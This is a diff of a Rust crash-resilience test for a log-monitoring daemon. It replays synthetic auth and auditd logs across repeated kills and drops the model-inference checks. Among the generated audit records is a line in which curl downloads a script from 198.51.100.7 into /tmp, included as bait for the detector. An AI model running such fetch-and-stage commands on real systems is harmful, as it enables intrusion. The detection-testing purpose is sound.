@@ -1,6 +1,5 @@
 //! The books after 30 × kill -9: a writer appends 50,000 auth and auditd lines with rotations while the
-//! daemon is killed again and again; alerts, counts and ids equal those of an undisturbed run, and so does every
-//! judgement of a model about the windows of the endpoints.
+//! daemon is killed again and again; alerts, counts and ids equal those of an undisturbed run.
 
 use std::collections::BTreeMap;
 use std::fs::{self, OpenOptions};
@@ -9,7 +8,6 @@ use std::path::{Path, PathBuf};
 use std::time::{Duration, Instant};
 
 use crate::support::daemon::{Daemon, run_json, run_ndjson};
-use crate::support::tiny_model::Spec;
 
 const AUTH_LINES: usize = 30_000;
 const AUDIT_EVENTS: usize = 5_000; // four records each
@@ -49,7 +47,7 @@ fn auth_line(index: usize, numbers: &mut Numbers) -> String {
     format!("{at} {host} {text}\n")
 }
 
-fn audit_event(index: usize, numbers: &mut Numbers) -> String {
+pub fn audit_event(index: usize, numbers: &mut Numbers) -> String {
     let at = format!("{}.{:03}:{}", START + index as i64 / 2, numbers.below(1000), 5000 + index);
     let command = match numbers.below(40) {
         0 => "a0=\"curl\" a1=\"http://198.51.100.7/x.sh\" a2=\"-o\" a3=\"/tmp/x.sh\"".to_owned(),
@@ -96,13 +94,11 @@ impl Log {
 fn config(folder: &Path) -> PathBuf {
     let logs = folder.join("logs");
     fs::create_dir_all(&logs).unwrap();
-    Spec { platform: "linux", ..Spec::of_program() }.write(&folder.join("model"));
     let text = format!(
         "[[sources]]\nname = \"auth\"\npaths = [\"{0}/auth.log*\"]\nidle = \"500ms\"\nrescan = \"500ms\"\n\
          [[sources]]\nname = \"audit\"\npaths = [\"{0}/audit.log*\"]\nhost = \"db01\"\nidle = \"500ms\"\nrescan = \"500ms\"\n\
-         [alert]\nundo = \"1s\"\n[infer]\nmodels = \"{1}/model\"\nruntime = \"tract\"\n",
-        logs.display(),
-        folder.display(),
+         [alert]\nundo = \"1s\"\n",
+        logs.display()
     );
     let path = folder.join("watchfloor.toml");
     fs::write(&path, text).unwrap();
@@ -162,32 +158,10 @@ fn alerts(config: &Path) -> BTreeMap<String, String> {
         .iter()
         .map(|alert| {
             let keys = ["rule.id", "host.name", "count", "first_seen", "last_seen", "severity"];
-            // Which bundle a model's alert joins depends on when its score came, which nothing promises.
-            let of_model = alert["rule.id"].as_str().unwrap().starts_with("watchfloor.model.");
-            let parts: &[&str] = if of_model { &[] } else { &["risk", "risk_parts", "bundle"] };
+            let parts = ["risk", "risk_parts", "bundle"];
             let of = |key: &&str| alert[*key].to_string();
-            let text = keys.iter().chain(parts).map(of).collect::<Vec<_>>().join(" ");
+            let text = keys.iter().chain(&parts).map(of).collect::<Vec<_>>().join(" ");
             (alert["id"].as_str().unwrap().to_owned(), text)
-        })
-        .collect()
-}
-
-/// What models said of windows that events closed: id → endpoint, what it was made of, every member's score. Windows behind the
-/// newest event of an endpoint close by the clock, so some are closed and some not when the daemon stops.
-fn inferences(config: &Path) -> BTreeMap<String, String> {
-    let search = |query, limit| run_ndjson(config, &["events", "search", query, "--limit", limit]);
-    let found = search("event.dataset:watchfloor.inference", "100000");
-    let newest = search("host:* -event.dataset:watchfloor.inference", "1");
-    let newest = newest[0]["@timestamp"].as_str().unwrap().to_owned();
-    let closed = found.iter().filter(|event| event["@timestamp"].as_str().unwrap() < &*newest);
-    closed
-        .map(|event| {
-            let said = &event["watchfloor"]["inference"];
-            let keys =
-                ["prediction", "events", "nodes", "edges", "observed_ms", "members", "p", "reason"];
-            let text = keys.map(|key| said[key].to_string()).join(" ");
-            let id = event["event"]["id"].as_str().unwrap().to_owned();
-            (id, format!("{} {} {text}", event["host"]["name"], event["@timestamp"]))
         })
         .collect()
 }
@@ -201,8 +175,6 @@ fn thirty_kills_change_nothing() {
     settle(daemon, records);
     let expected = alerts(&config_calm);
     assert!(expected.len() > 10, "the lines must raise alerts: {}", expected.len());
-    let judged = inferences(&config_calm);
-    assert!(judged.len() > 200, "the endpoints must be judged: {}", judged.len());
 
     let wild = tempfile::tempdir().unwrap();
     let config_wild = config(wild.path());
@@ -230,14 +202,5 @@ fn thirty_kills_change_nothing() {
         found.len(),
         expected.len(),
         "there are alerts that the undisturbed run did not raise"
-    );
-    let found = inferences(&config_wild);
-    for (id, window) in &judged {
-        assert_eq!(found.get(id), Some(window), "window {id} is judged otherwise after the kills");
-    }
-    assert_eq!(
-        found.len(),
-        judged.len(),
-        "there are windows that the undisturbed run did not judge"
     );
 }
